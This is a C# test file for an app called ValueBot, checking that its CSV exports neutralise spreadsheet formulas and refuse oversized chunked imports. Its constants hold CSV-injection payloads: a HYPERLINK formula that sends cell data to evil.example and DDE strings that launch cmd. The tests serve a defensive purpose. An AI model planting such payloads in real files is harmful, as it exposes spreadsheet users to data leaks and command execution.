using System.Net;
using System.Text;
using ValueBot.Domain.CheckIns;
using ValueBot.Domain.Common;
using ValueBot.Web.Admin;
using ValueBot.Web.CheckIns;
using ValueBot.Web.Tests.Digests;
using ValueBot.Web.Tests.Support;
using ValueBot.Web.Tests.Tab;
using ValueBot.Web.UseCases;
using static ValueBot.Web.Tests.Admin.AdminClient;
using static ValueBot.Web.Tests.Support.TeamsActivities;

namespace ValueBot.Web.Tests.UseCases;

/// <summary>
/// Every CSV ValueBot hands out — the admin API's registry, answers and metrics exports and the tab's portfolio, use-case
/// and delivery downloads — from a registry whose names, wins and blockers are spreadsheet formulas.
/// </summary>
public sealed class CsvExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    private const string Command = "+cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Arithmetic = "-2+3";

    public static TheoryData<string, bool> Exports => new()
    {
        { "/api/admin/use-cases/export", false },
        { "/api/admin/answers/export", false },
        { "/api/admin/metrics/export", false },
        { "/tab/portfolio.csv", true },
        { $"/tab/use-cases/{DigestWorld.Invoices:D}.csv", true },
        { "/tab/delivery.csv", true },
    };

    [Theory]
    [MemberData(nameof(Exports))]
    public async Task EveryExportWritesFormulasAsTextNumbersAsNumbersWithCrlfAndABom(string path, bool tab)
    {
        await using var database = TestDatabase.CreateSqlite();
        await using var host = await TabWorld.StartAsync(database);
        await TabWorld.SeedAsync(host);
        await HostileAsync(host);

        byte[] bytes;
        if (tab)
        {
            using var client = await TabWorld.SignedInAsync(host, Ada);
            bytes = await client.GetByteArrayAsync(path);
        }
        else
        {
            using var response = await SendAsync(host, HttpMethod.Get, path, token: AdminToken(host));
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
            bytes = await response.Content.ReadAsByteArrayAsync();
        }

        // A byte-order mark, then UTF-8: Excel reads "Tomás" right only with it.
        Assert.Equal(Encoding.UTF8.Preamble.ToArray(), bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3);
        Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
        Assert.DoesNotMatch("(?<!\r)\n", text);

        var cells = CsvText.Read(text).SelectMany(r => r.Fields).ToList();
        Assert.Contains(cells, c => c.Contains("Tomás", StringComparison.Ordinal));
        // No cell a spreadsheet would run: whatever starts like a formula is a plain number or begins with an apostrophe.
        Assert.All(cells, c => Assert.True(c.Length == 0 || c[0] is not ('=' or '+' or '-' or '@' or '\t' or '\r') || IsNumber(c), $"'{c}' would run as a formula"));
        if (path.Contains("metrics", StringComparison.Ordinal))
        {
            // Contract review loses money this week: its net value is a negative number, and stays one.
            Assert.Contains("-3980.00", cells);
        }

        // Not vacuous: the formulas are in this file, as text.
        Assert.Contains(cells, c => c.StartsWith("'" + Hyperlink, StringComparison.Ordinal) || c.StartsWith("'" + Arithmetic, StringComparison.Ordinal));
    }

    [Fact]
    public async Task AFormulaCellIsTextInTheFileAndTheSameNameWhenImportedAgain()
    {
        await using var database = TestDatabase.CreateSqlite();
        await using var host = await ValueBotTestHost.StartAsync(database.ConnectionString);
        foreach (var name in new[] { Hyperlink, Sum, Arithmetic + " Tomás", "Meeting notes" })
        {
            var created = await SendAsync(host, HttpMethod.Post, "/api/admin/use-cases", ValidUseCase(name).ToJsonString());
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        }

        var exported = await (await SendAsync(host, HttpMethod.Get, "/api/admin/use-cases/export")).Content.ReadAsStringAsync();
        var names = CsvText.Read(exported).Skip(1).Select(r => r.Fields[1]).Order(StringComparer.Ordinal).ToList();
        Assert.Equal(["'" + Arithmetic + " Tomás", "'" + Hyperlink, "'" + Sum, "Meeting notes"], names);

        var again = await SendAsync(host, HttpMethod.Post, "/api/admin/use-cases/import", exported, contentType: "text/csv");
        Assert.Equal(HttpStatusCode.OK, again.StatusCode);
        Assert.Equal(4, (await JsonAsync(again))["updated"]!.GetValue<int>());
        var stored = await host.WithScopeAsync(async sp => (await sp.GetRequiredService<UseCaseRegistry>().AllAsync(CancellationToken.None))
            .Select(s => s.UseCase.Name).Order(StringComparer.Ordinal).ToList());
        Assert.Equal([Arithmetic + " Tomás", Hyperlink, Sum, "Meeting notes"], stored);
    }

    [Theory]
    [InlineData("-12.5", "-12.5")]
    [InlineData("0", "0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("-", "'-")]
    [InlineData("-1e5", "'-1e5")]
    [InlineData("12.", "12.")]
    [InlineData("'=1", "''=1")]
    [InlineData("'quoted", "'quoted")]
    [InlineData("\tindent", "'\tindent")]
    [InlineData("plain", "plain")]
    public void ACellIsNeutralisedByWhatItStartsWithAndReadsBackExactly(string value, string written)
    {
        Assert.Equal(written, CsvText.Cell(value));
        Assert.Equal(value, CsvText.Uncell(written));
    }

    [Theory]
    [ClassData(typeof(Engines))]
    public async Task AChunkedTwelveMegabyteImportIsRefusedWith413AndStoresNothing(string engine)
    {
        await using var database = await TestDatabase.CreateAsync(engine);
        await using var host = await ValueBotTestHost.StartAsync(database.ConnectionString);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/admin/use-cases/import") { Content = new ChunkedCsv(12 * 1024 * 1024) };
        request.Headers.Authorization = new("Bearer", Token(host));

        HttpResponseMessage? response = null;
        try
        {
            response = await host.Http.SendAsync(request);
        }
        catch (HttpRequestException)
        {
            // Kestrel may close the connection while the client is still writing the rest of the body.
        }

        if (response is not null)
        {
            Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
            Assert.Contains("nothing was imported", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            response.Dispose();
        }

        var list = await JsonAsync(await SendAsync(host, HttpMethod.Get, "/api/admin/use-cases?includeRetired=true"));
        Assert.Equal(0, list["total"]!.GetValue<int>());
    }

    /// <summary>Names of three use cases become formulas; their answers carry formula wins and blockers; Contracts loses money.</summary>
    private static Task HostileAsync(ValueBotTestHost host) => host.WithScopeAsync(async sp =>
    {
        var registry = sp.GetRequiredService<UseCaseRegistry>();
        foreach (var (id, name) in new[] { (DigestWorld.Invoices, Hyperlink), (DigestWorld.Claims, Sum), (DigestWorld.Contracts, Arithmetic + " Tomás") })
        {
            var stored = (await registry.GetAsync(id, CancellationToken.None))!;
            await registry.UpdateAsync(id, stored.UseCase with { Name = name }, null, "test", CancellationToken.None);
        }

        var checkIns = sp.GetRequiredService<CheckInStore>();
        var answer = DigestWorld.Answer(80) with { Win = Command + " für Tomás", Blocker = Arithmetic };
        await checkIns.RecordAnswerAsync(DigestWorld.Invoices, DigestWorld.Week.AddWeeks(-4), answer, Grace.AadObjectId, CancellationToken.None);
        var losing = DigestWorld.Answer(70) with { Blocker = "@" + Command, RunCost = RunCost.Zero("EUR") with { LicencesAndTokens = new Money(5000m, "EUR") } };
        await checkIns.RecordAnswerAsync(DigestWorld.Contracts, DigestWorld.Week, losing, DigestWorld.Bob.AadObjectId, CancellationToken.None);
        return 0;
    });

    /// <summary>An admin token valid by the host's fixed clock (the tab world lives on 13 March 2026).</summary>
    private static string AdminToken(ValueBotTestHost host) => Token(host, notBefore: DigestWorld.Now.AddHours(-1), expires: DigestWorld.Now.AddHours(1));

    private static bool IsNumber(string cell) =>
        decimal.TryParse(cell, System.Globalization.NumberStyles.AllowLeadingSign | System.Globalization.NumberStyles.AllowDecimalPoint, System.Globalization.CultureInfo.InvariantCulture, out _);

    /// <summary>A body of valid registry rows streamed without a Content-Length, so HttpClient sends it chunked.</summary>
    private sealed class ChunkedCsv(long size) : HttpContent
    {
        protected override async Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context)
        {
            var header = Encoding.UTF8.GetBytes(string.Join(',', UseCaseCsv.Columns) + "\r\n");
            await stream.WriteAsync(header);
            var row = Encoding.UTF8.GetBytes(string.Join(',', UseCaseCsv.Columns.Select(c => c switch
            {
                "name" => "Chunked", "valueModel" => "processReengineering", "targetUsers" => "10", "currency" => "EUR",
                "baselineMinutesPerTask" => "10", "hourlyCost" => "60", "plannedRunCostPerMonth" => "100", _ => "",
            })) + "\r\n");
            for (long written = header.Length; written < size; written += row.Length)
            {
                await stream.WriteAsync(row);
            }
        }

        protected override bool TryComputeLength(out long length)
        {
            length = 0;
            return false;
        }
    }
}
